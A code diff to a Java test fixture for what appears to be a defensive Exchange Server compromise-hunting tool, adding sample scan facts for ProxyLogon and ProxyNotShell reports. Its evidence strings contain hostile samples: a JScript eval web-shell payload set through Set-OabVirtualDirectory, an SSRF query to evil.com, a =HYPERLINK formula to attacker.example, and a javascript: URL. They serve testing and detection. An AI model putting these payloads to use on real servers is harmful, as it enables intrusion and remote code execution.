@@ -1,7 +1,9 @@
 package org.exhunt.report;
 
 import java.time.Instant;
+import java.time.LocalDate;
 import java.util.List;
+import java.util.Map;
 import org.exhunt.core.Compromise;
 import org.exhunt.core.Diagnostic;
 import org.exhunt.core.Exposure;
@@ -10,7 +12,32 @@ import org.exhunt.core.RunInfo;
 import org.exhunt.core.ServerResult;
 import org.exhunt.core.Severity;
 import org.exhunt.core.SourceRef;
+import org.exhunt.core.Stage;
 import org.exhunt.core.Verdict;
+import org.exhunt.core.facts.BuildFacts;
+import org.exhunt.core.facts.BuildSighting;
+import org.exhunt.core.facts.BuildSource;
+import org.exhunt.core.facts.Examined;
+import org.exhunt.core.facts.ExtendedProtection;
+import org.exhunt.core.facts.FileUse;
+import org.exhunt.core.facts.IndicatorCounts;
+import org.exhunt.core.facts.IndicatorSummary;
+import org.exhunt.core.facts.Install;
+import org.exhunt.core.facts.LogCoverage;
+import org.exhunt.core.facts.MitigationFound;
+import org.exhunt.core.facts.Mitigations;
+import org.exhunt.core.facts.NotKept;
+import org.exhunt.core.facts.OwaFolder;
+import org.exhunt.core.facts.RowTimeline;
+import org.exhunt.core.facts.ScanFacts;
+import org.exhunt.core.facts.ServerFacts;
+import org.exhunt.core.facts.SigmaSummary;
+import org.exhunt.core.facts.Support;
+import org.exhunt.core.facts.Suppression;
+import org.exhunt.core.facts.Tally;
+import org.exhunt.core.facts.UnreadFormat;
+import org.exhunt.core.facts.UpdatePath;
+import org.exhunt.core.facts.UpdateStep;
 
 /**
  * Results made by hand for the report tests: every exposure and every compromise state, a correlation
@@ -35,6 +62,8 @@ public final class SampleResults {
     static final String HTTPPROXY = "C:\\Program Files\\Microsoft\\Exchange Server\\V15\\Logging\\HttpProxy\\Ecp\\HttpProxy_2021030302-1.LOG";
     static final String ECP_LOG = "C:\\Program Files\\Microsoft\\Exchange Server\\V15\\Logging\\ECP\\Server\\ECPServer2021030302-1.LOG";
     static final String IIS_LOG = "/evidence/ex01/inetpub/logs/LogFiles/W3SVC1/u_ex210303.log";
+    static final String INSTALL = "C:\\Program Files\\Microsoft\\Exchange Server\\V15\\";
+    static final String APP_HOST = "C:\\Windows\\System32\\inetsrv\\config\\applicationHost.config";
     static final String SHELL = "C:\\inetpub\\wwwroot\\aspnet_client\\system_web\\errorEE.aspx";
     static final String HOSTILE_FILE = "/evidence/ex01/inetpub/wwwroot/aspnet_client/" + IMG_INJECTION + " \u202Excod.aspx";
 
@@ -64,8 +93,7 @@ public final class SampleResults {
                                 "#Fields changed mid-file; read with the new columns"),
                         Diagnostic.info("layout.install-path", SourceRef.file("/evidence/ex01"),
                                 "Exchange found at its default path")),
-                List.of("Exchange install path: C:\\Program Files\\Microsoft\\Exchange Server\\V15\\ (found)",
-                        "IIS logs reach back to 2021-02-20"));
+                scanFacts());
     }
 
     static ServerResult ex02() {
@@ -73,14 +101,67 @@ public final class SampleResults {
                 new Verdict(HOSTILE_SERVER, "ProxyLogon", Exposure.NOT_ASSESSED, Compromise.CLEAN, "no evidence"),
                 new Verdict(HOSTILE_SERVER, "Post-exploitation", Exposure.NOT_ASSESSED, Compromise.CLEAN,
                         "no known or misplaced web shell among 4 files")),
-                List.of(), List.of(), List.of());
+                List.of(), List.of(), ServerFacts.NONE);
+    }
+
+    /**
+     * Facts of every kind a scan gives, the build read from ExSetup.exe with an OWA folder and the logs disagreeing,
+     * and attacker-controlled text where the evidence gives it (a file name, a title, an address).
+     */
+    static ServerFacts scanFacts() {
+        Instant logsFrom = Instant.parse("2021-02-20T00:00:00Z");
+        Instant logsTo = Instant.parse("2021-03-04T23:59:00Z");
+        BuildFacts build = new BuildFacts(
+                new BuildSighting("15.1.2176.2", "Exchange Server 2016 CU19, released 2020-12-15 (KB4588884)", BuildSource.EXSETUP,
+                        INSTALL + "Bin\\ExSetup.exe", null, null), null,
+                List.of(new BuildSighting("15.1.2242.4", "Exchange Server 2016 CU20, released 2021-03-16 (KB5000871)",
+                        BuildSource.LOGS, "exchange-httpproxy logs", Instant.parse("2021-03-04T00:00:00Z"), logsTo)),
+                List.of(new OwaFolder("15.1.2106", INSTALL + "FrontEnd\\HttpProxy\\owa\\auth\\15.1.2106", logsFrom,
+                                OwaFolder.Relation.EARLIER_CU),
+                        new OwaFolder("15.1.2176", INSTALL + "FrontEnd\\HttpProxy\\owa\\auth\\15.1.2176", logsFrom,
+                                OwaFolder.Relation.SAME_CU)),
+                new Support("Exchange Server 2016", LocalDate.of(2025, 10, 14), "later updates are for Extended Security Update customers only"),
+                new UpdatePath(false, List.of(new UpdateStep("CU23", "15.1.2507.6", "KB5011155", "2022-04-20"),
+                        new UpdateStep("CU23 Aug26SU", "15.1.2507.72", "KB5121576", "2026-08-11"))));
+        Mitigations mitigations = new Mitigations(true, List.of(
+                new MitigationFound("eomt-beresource", "EOMT", "CVE-2021-26855", "X-BEResource Abort - inbound", APP_HOST + ":19",
+                        "Default Web Site", MitigationFound.Status.COUNTED, null),
+                new MitigationFound("eomt-anonresource-backend", "EOMT", "CVE-2021-26855", "X-AnonResource-Backend Abort - inbound",
+                        APP_HOST + ":7", "Default Web Site", MitigationFound.Status.NOT_COUNTED, "the rule is disabled"),
+                new MitigationFound("proxynotshell-first", "EOMTv2", "CVE-2022-41040", "ProxyNotShell first guidance",
+                        APP_HOST + ":21", "server", MitigationFound.Status.SUPERSEDED, "bypassed and replaced by EOMTv2's rule")));
+        ExtendedProtection ep = new ExtendedProtection(ExtendedProtection.State.PARTLY_ON, List.of(
+                new ExtendedProtection.Setting("Default Web Site/owa", "Require"),
+                new ExtendedProtection.Setting("Exchange Back End/EWS", "None")));
+        Examined examined = new Examined(5_210, 31, 12, 3, List.of("PerfLogs/**"), List.of(new UnreadFormat(".etl", 2)),
+                Instant.parse("2021-02-01T00:00:00Z"), null, 7);
+        IndicatorSummary indicators = new IndicatorSummary(4, new IndicatorCounts(38, 15, 0), 1, new IndicatorCounts(40, 16, 1), 1);
+        SigmaSummary sigma = new SigmaSummary(36, 1, 2, 0, List.of(), new SigmaSummary.FileRecords(5_210, 31));
+        LogCoverage iis = new LogCoverage("iis", 13, 48_211, 0, logsFrom, logsTo, List.of());
+        LogCoverage httpProxy = new LogCoverage("exchange-httpproxy", 52, 90_004, 0, logsFrom, logsTo, List.of(
+                new LogCoverage.BuildSeen("15.1.2176.2", logsFrom, Instant.parse("2021-03-03T23:59:00Z")),
+                new LogCoverage.BuildSeen("15.1.2242.4", Instant.parse("2021-03-04T00:00:00Z"), logsTo)));
+        RowTimeline proxyLogon = new RowTimeline("ProxyLogon", 6, 0, Instant.parse("2021-03-03T02:14:10Z"),
+                Instant.parse("2021-03-03T02:20:01Z"), List.of(ATTACKER_IP, "2001:db8::5"), 2, List.of(
+                        new FileUse(SHELL, List.of("China Chopper web shell", IMG_INJECTION), Instant.parse("2021-03-03T02:15:40Z"),
+                                "/aspnet_client/system_web/errorEE.aspx", 3, Instant.parse("2021-03-03T02:20:01Z"),
+                                Instant.parse("2021-03-03T06:11:30Z"), List.of(ATTACKER_IP), 0, Map.of("200", 3L))));
+        RowTimeline post = new RowTimeline("Post-exploitation", 1, 0, Instant.parse("2021-03-05T11:00:00Z"),
+                Instant.parse("2021-03-05T11:00:00Z"), List.of(), 0, List.of(
+                        new FileUse("C:\\inetpub\\wwwroot\\aspnet_client\\" + IMG_INJECTION + ".aspx", List.of("known web-shell hash"),
+                                Instant.parse("2021-03-05T11:00:00Z"), "/aspnet_client/x.aspx", 0, null, null, List.of(), 0, Map.of())));
+        ScanFacts scan = new ScanFacts(new Install(INSTALL, false), mitigations, ep, examined, indicators, sigma,
+                List.of(httpProxy, iis), Map.of(Tally.YARA_PE_FIELDS_NOT_EVALUATED, 412L),
+                List.of(new NotKept("exhunt.ioc.attacker-ips", 2_999)), List.of(new Suppression("path:C:\\inetpub\\**\\healthcheck.htm", 4)),
+                List.of(proxyLogon, post));
+        return new ServerFacts(build, scan, null);
     }
 
     /** A correlation: the ProxyLogon chain, with the SSRF, the OAB change and the shell request linked. */
     static Finding chain() {
         return Finding.builder("sigma", "exhunt.chain.proxylogon")
                 .title("ProxyLogon chain: SSRF, OAB ExternalUrl set to a script, then the shell requested")
-                .severity(Severity.CRITICAL).chain("ProxyLogon")
+                .severity(Severity.CRITICAL).chain("ProxyLogon").stage(Stage.SUCCESS)
                 .tags(List.of("attack.initial_access", "attack.t1190", "cve.2021-26855", "cve.2021-27065", "attack.t1190"))
                 .meta("description", "Three steps of HAFNIUM's ProxyLogon use from one source within an hour")
                 .meta("reference", REFERENCE).meta("author", "exhunt")
@@ -88,7 +169,7 @@ public final class SampleResults {
                 .time(Instant.parse("2021-03-03T02:14:10Z"))
                 .source(SourceRef.line(HTTPPROXY, 42))
                 .link(Finding.builder("sigma", "exhunt.httpproxy.cve-2021-26855")
-                        .title("SSRF through the HttpProxy (CVE-2021-26855)").severity(Severity.HIGH).chain("ProxyLogon")
+                        .title("SSRF through the HttpProxy (CVE-2021-26855)").severity(Severity.HIGH).chain("ProxyLogon").stage(Stage.ATTEMPT)
                         .tags(List.of("attack.initial_access", "attack.t1190", "cve.2021-26855"))
                         .evidence("ClientIpAddress", ATTACKER_IP).evidence("Method", "POST")
                         .evidence("UrlStem", "/ecp/y.js").evidence("HttpStatus", "241")
@@ -97,12 +178,12 @@ public final class SampleResults {
                         .time(Instant.parse("2021-03-03T02:14:10Z")).source(SourceRef.line(HTTPPROXY, 42)).build())
                 .link(Finding.builder("sigma", "exhunt.ecp.cve-2021-27065")
                         .title("OAB virtual directory ExternalUrl set to a script (CVE-2021-27065)")
-                        .severity(Severity.HIGH).chain("ProxyLogon").tags(List.of("cve.2021-27065"))
+                        .severity(Severity.HIGH).chain("ProxyLogon").stage(Stage.SUCCESS).tags(List.of("cve.2021-27065"))
                         .evidence("CMD", "Set-OabVirtualDirectory.ExternalUrl='http://f/<script language=\"JScript\" "
                                 + "runat=\"server\">function Page_Load(){eval(Request[\"code\"],\"unsafe\");}</script>'")
                         .time(Instant.parse("2021-03-03T02:15:33Z")).source(SourceRef.line(ECP_LOG, 7)).build())
                 .link(Finding.builder("sigma", "exhunt.iis.webshell-request")
-                        .title("POST to a script in aspnet_client").severity(Severity.HIGH).chain("ProxyLogon")
+                        .title("POST to a script in aspnet_client").severity(Severity.HIGH).chain("ProxyLogon").stage(Stage.POST_EXPLOITATION)
                         .evidence("c-ip", ATTACKER_IP).evidence("cs-method", "POST")
                         .evidence("cs-uri-stem", "/aspnet_client/system_web/errorEE.aspx")
                         .evidence("cs-uri-query", "-").evidence("sc-status", "200")
@@ -115,7 +196,7 @@ public final class SampleResults {
     /** A YARA hit at a byte offset, with formula-looking evidence. */
     static Finding chopper() {
         return Finding.builder("yara", "HAFNIUM_China_Chopper_Aspx")
-                .title("China Chopper web shell").severity(Severity.HIGH).chain("ProxyLogon")
+                .title("China Chopper web shell").severity(Severity.HIGH).chain("ProxyLogon").stage(Stage.POST_EXPLOITATION)
                 .tags(List.of("attack.persistence", "attack.t1505.003"))
                 .meta("reference", "https://github.com/Neo23x0/signature-base/blob/master/yara/apt_hafnium.yar")
                 .meta("author", "Florian Roth")
@@ -129,7 +210,7 @@ public final class SampleResults {
     /** ProxyNotShell probes from an IPv6 client, answered 400: an attempt. */
     static Finding notShellAttempt() {
         return Finding.builder("sigma", "exhunt.iis.proxynotshell-autodiscover")
-                .title("ProxyNotShell autodiscover SSRF attempt").severity(Severity.MEDIUM).chain("ProxyNotShell")
+                .title("ProxyNotShell autodiscover SSRF attempt").severity(Severity.MEDIUM).chain("ProxyNotShell").stage(Stage.ATTEMPT)
                 .tags(List.of("attack.initial_access", "attack.t1190", "cve.2022-41040"))
                 .evidence("c-ip", "2001:db8::5").evidence("cs-uri-stem", "/autodiscover/autodiscover.json")
                 .evidence("cs-uri-query", "@evil.com/owa/&Email=autodiscover/autodiscover.json%3f@evil.com&Protocol=XYZ"
@@ -144,7 +225,7 @@ public final class SampleResults {
     static Finding hostileFile() {
         return Finding.builder("ioc", "-1+1")
                 .title("=HYPERLINK(\"http://attacker.example/\",\"click\") file with a known HAFNIUM web-shell hash")
-                .severity(Severity.HIGH)
+                .severity(Severity.HIGH).stage(Stage.POST_EXPLOITATION)
                 .meta("reference", "javascript:alert(1)")
                 .evidence("path", "C:\\inetpub\\wwwroot\\aspnet_client\\" + IMG_INJECTION + ".aspx")
                 .evidence("sha256", "b75f163ca9b9240bf4b37ad92bc7556b40a17e27c2b8ed5c8991385fe07d17d0")
@@ -161,7 +242,7 @@ public final class SampleResults {
     static Finding buildWithoutTime() {
         return Finding.builder("kb", "exhunt.kb.missing-march-2021-su")
                 .title("Build 15.1.2176.2 misses the March 2021 security update").severity(Severity.INFORMATIONAL)
-                .chain("ProxyLogon").tags(List.of("cve.2021-26855"))
+                .chain("ProxyLogon").stage(Stage.CONTEXT).tags(List.of("cve.2021-26855"))
                 .evidence("build", "15.1.2176.2").evidence("from", "+ExSetup.exe file version")
                 .source(SourceRef.record("C:\\Program Files\\Microsoft\\Exchange Server\\V15\\Bin\\ExSetup.exe", "VS_VERSIONINFO"))
                 .build();
